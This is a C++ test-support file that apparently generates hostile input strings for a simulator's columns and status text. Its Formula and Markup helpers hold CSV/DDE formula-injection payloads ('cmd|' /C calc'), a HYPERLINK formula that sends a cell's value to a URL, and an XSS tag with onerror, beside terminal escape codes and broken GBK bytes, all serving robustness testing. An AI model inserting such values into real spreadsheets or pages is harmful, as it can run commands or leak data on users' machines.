#include "sim/SimHostile.h"

namespace {

// A text of exactly kHostileLongBytes: head, filler, then tail, so two long texts that differ
// only in their tails agree for all but their last bytes.
std::string LongText(const std::string& tail)
{
    // GBK 空闲 (idle) and markup, repeated: a long text that is not all one byte.
    static const std::string kPiece = "<b>\xBF\xD5\xCF\xD0</b> =A1 ";
    std::string text;
    text.reserve(kHostileLongBytes);
    while (text.size() + kPiece.size() + tail.size() <= kHostileLongBytes)
        text += kPiece;
    text.append(kHostileLongBytes - text.size() - tail.size(), '.');
    return text + tail;
}

std::string AllBytes()
{
    std::string text;
    for (int b = 1; b <= 0xFF; ++b)
        text += static_cast<char>(b);
    return text;
}

// Bytes a GBK reader cannot take as they are: a lone euro byte, lead bytes without a trail or
// with a trail out of range, a pair only Windows maps (into the Private Use Area), 0xFF.
const char kBrokenGbk[] = "\x80\xFF\x81\x30\xA1\x41\xFE\x7F\xAA\xA1";

std::string Formula(int variant, const std::string& plain)
{
    switch (variant % 4) {
    case 0:
        return "=HYPERLINK(\"http://example.invalid/?\"&A1,\"" + plain + "\")";
    case 1:
        return "+cmd|' /C calc'!A0 " + plain;
    case 2:
        return "-2+3 " + plain;
    default:
        return "@SUM(1+1)*cmd|' /C calc'!A0 " + plain;
    }
}

std::string Controls(const std::string& plain)
{
    return "\x1B]0;title\x07\x1B[2J\x1B[31m" + plain + "\x1B[0m\r\n\t\x7F\x08\x08";
}

std::string Markup(const std::string& plain)
{
    return "<b>" + plain + "</b><img src=x onerror=alert(1)><br>&amp;";
}

std::string Status(HostileKind kind, int line, const std::string& plain)
{
    const std::string tail = " " + plain + " #" + std::to_string(line);
    switch (kind) {
    case HostileKind::Formula:
        return Formula(line / kHostileKinds, plain) + " #" + std::to_string(line);
    case HostileKind::Controls:
        return Controls(plain) + "#" + std::to_string(line);
    case HostileKind::Markup:
        return Markup(plain) + "#" + std::to_string(line);
    case HostileKind::BrokenGbk:
        return kBrokenGbk + tail;
    case HostileKind::AllBytes:
        return AllBytes() + tail;
    case HostileKind::Long:
        return LongText(tail);
    case HostileKind::Chinese:
        return "\xBF\xD5\xCF\xD0" + tail; // 空闲
    }
    return plain;
}

} // namespace

HostileKind HostileStatusKind(int line)
{
    return static_cast<HostileKind>(line % kHostileKinds);
}

std::string HostileText(SimHostile mode, int line, int column, const std::string& plain)
{
    if (mode == SimHostile::Off || column == 0)
        return plain;
    switch (column) {
    case 2:
        return Status(mode == SimHostile::Long ? HostileKind::Long : HostileStatusKind(line), line, plain);
    case 1:
    case 5:
        return Formula(line + column, plain);
    case 3:
        return Controls(plain);
    case 4:
        return Markup(plain);
    case 6:
        return kBrokenGbk + plain;
    default:
        return AllBytes() + plain;
    }
}

std::string HostileSummary(const std::string& plain)
{
    return "<b>" + plain + "</b> \x1B[2J=1+1\x7F";
}
